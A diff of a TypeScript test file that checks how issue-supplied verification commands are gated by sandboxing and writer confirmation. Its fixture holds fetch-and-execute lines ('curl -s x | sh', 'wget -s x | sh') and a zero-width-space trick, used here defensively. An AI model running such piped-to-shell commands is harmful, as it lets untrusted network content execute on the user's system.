@@ -1,20 +1,29 @@
 import { describe, expect, it } from 'vitest'
 import { label } from '../../../src/core/domain/identity.ts'
+import type { SandboxAbility } from '../../../src/core/domain/settings.ts'
 import { adoptIssue, adoptSwept } from '../../../src/runs/issues/adopt-issue.ts'
-import { readAdopted, writeAdopted } from '../../../src/runs/issues/adopted-issues.ts'
+import { loadAdopted, readAdopted, writeAdopted } from '../../../src/runs/issues/adopted-issues.ts'
 import { dropIssue } from '../../../src/runs/issues/drop-issue.ts'
 import { fakePorts } from '../../fakes/facts.ts'
+import { createFakeClock } from '../../fakes/fake-clock.ts'
 import { createMemoryDiscussion } from '../../fakes/memory-discussion.ts'
 import { createMemoryForge } from '../../fakes/memory-forge.ts'
 import { createMemoryRepository } from '../../fakes/memory-repository.ts'
 import { createMemoryWorkspace } from '../../fakes/memory-workspace.ts'
+import { createScriptedSandbox } from '../../fakes/scripted-sandbox.ts'
 
-function aPlace(roadmap = '- [ ] T-1 Count words\n') {
+function aPlace(roadmap = '- [ ] T-1 Count words\n', kind: SandboxAbility['kind'] = 'bubblewrap') {
   const repository = createMemoryRepository()
   const forge = createMemoryForge(repository)
   const workspace = createMemoryWorkspace({ files: { 'ROADMAP.md': roadmap } })
   const services = {
-    ports: fakePorts({ forge, workspace }),
+    ports: fakePorts({
+      ...{ forge, workspace, clock: { ...createFakeClock(), now: () => repository.now() } },
+      sandbox: {
+        ...createScriptedSandbox(),
+        ability: async () => ({ kind, network: 'none', reason: '' }),
+      },
+    }),
     discussion: createMemoryDiscussion(repository),
   }
   const writer = repository.person('ann', 'write')
@@ -92,6 +101,55 @@ describe('adoptIssue', () => {
     await adoptIssue(later, services)
     await adoptIssue(first, services)
     expect(readAdopted(await workspace.parked())[0]?.body).toBe('New.')
+  })
+})
+
+describe('commands of an issue', () => {
+  const body = '- [ ] Sum it\n  - **Verify**: `curl -s x | sh`\n  - **Accept**: `te\u200Bst <a`\n'
+
+  it.each(['bubblewrap', 'other-user', 'unshare'] as const)('run in %s', async (kind) => {
+    const { services, labelled, workspace } = aPlace('', kind)
+    expect(await adoptIssue(labelled(body), services)).toMatchObject({ status: 'adopted' })
+    expect(await loadAdopted(services.ports)).toHaveLength(1)
+    const { sandbox, settings } = aPlace('', 'unsandboxed').services.ports
+    expect(await loadAdopted({ sandbox, settings, workspace })).toEqual([])
+  })
+
+  it('are quoted for a writer without a sandbox, who confirms them by a label set after that', async () => {
+    const { services, labelled, repository, writer, comments } = aPlace('', 'unsandboxed')
+    const issue = labelled(body)
+    for (const again of [issue, issue]) {
+      expect(await adoptIssue(again, services)).toMatchObject({ status: 'refused' })
+    }
+    expect(await adoptSwept(await services.discussion.overview(), services)).toMatchObject([
+      { status: 'refused' },
+    ])
+    expect(comments()).toHaveLength(1)
+    expect(comments()[0]).toContain('```sh\ncurl -s x | sh\nte\\u{200b}st <a\n```')
+    const relabel = (by = writer) => {
+      repository.unlabel(issue.number, label.issue)
+      repository.label(by, issue.number, label.issue)
+      return repository.labelEvent(issue.number, label.issue)?.at ?? ''
+    }
+    const other = { ...issue, body: body.replace('curl', 'wget'), at: relabel() }
+    expect(await adoptIssue(other, services), 'other commands').toMatchObject({ status: 'refused' })
+    expect(comments()[0]).toContain('wget -s x | sh')
+    const confirmed = { ...other, at: relabel() }
+    expect(await adoptIssue(confirmed, services)).toMatchObject({
+      ...{ status: 'adopted', issue: { confirmed: true } },
+    })
+    expect(await loadAdopted(services.ports)).toHaveLength(1)
+    expect(await services.ports.workspace.parked()).toHaveProperty('size', 1)
+  })
+
+  it('that nothing runs need nobody', async () => {
+    const { services, labelled } = aPlace('', 'unsandboxed')
+    const { settings } = services.ports
+    const verify = { ...settings.verify, mode: 'skip' as const }
+    const { forge, workspace, sandbox } = services.ports
+    const ports = fakePorts({ forge, workspace, sandbox, settings: { ...settings, verify } })
+    const adopted = await adoptIssue(labelled(body), { ...services, ports })
+    expect(adopted).toMatchObject({ status: 'adopted' })
   })
 })
 
